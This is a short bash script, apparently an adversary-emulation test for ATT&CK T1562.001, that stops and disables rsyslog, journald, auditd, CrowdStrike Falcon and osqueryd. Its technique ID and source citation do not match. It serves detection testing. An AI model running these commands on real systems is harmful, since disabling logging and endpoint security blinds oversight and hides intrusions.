#!/bin/bash
# technique: T1562.001
# tactic: defense_evasion
# what: logging and security services stopped and disabled (systemctl stop/disable rsyslog,
#       systemd-journald, auditd, falcon-sensor; service ... stop; pkill -f osqueryd). Where no
#       service manager runs, the calls fail and nothing changes.
# source: ART T1685 #2 "Disable journal logging via systemctl utility", #4 "Disable syslog", #6 "Disable Cb Response", #8 "Stop Crowdstrike Falcon on Linux"
# cleanup: nothing is stopped on this machine (no service manager); there, the cleanup would start them again
. "$(dirname "$0")/lib.sh"
systemctl stop rsyslog 2>/dev/null
systemctl disable rsyslog 2>/dev/null
systemctl stop systemd-journald 2>/dev/null
systemctl stop falcon-sensor 2>/dev/null
service auditd stop 2>/dev/null
pkill -x "osqueryd-$VG_MARK" 2>/dev/null
true
